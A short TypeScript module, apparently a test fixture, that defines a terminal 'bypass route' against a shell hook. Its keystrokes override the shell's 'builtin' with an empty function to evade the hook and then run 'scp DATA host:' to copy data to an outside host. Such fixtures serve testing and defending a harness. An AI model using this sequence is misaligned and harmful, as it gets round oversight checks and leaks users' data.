import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a function called builtin',
  source: 'attempts to get round a hook of the shell',
  keys: ['builtin() { :; }\r', 'scp DATA host:\r'],
};
